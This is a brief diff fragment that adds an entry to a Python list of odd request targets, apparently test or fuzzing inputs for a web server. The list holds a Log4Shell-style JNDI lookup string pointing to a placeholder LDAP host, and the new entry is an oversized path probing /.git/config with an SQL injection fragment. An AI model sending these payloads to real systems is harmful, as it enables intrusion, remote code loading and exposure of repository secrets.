@@ -238,6 +238,7 @@ ODD_TARGETS = [
     "/wp-login.php",
     "/x?u=$%7Bjndi:ldap://e/a%7D",
     "/" + "A" * 8000,
+    "/x/" + "b" * 9000 + "/.git/config?q=1%27%20or%201=1",
 ]
 
 
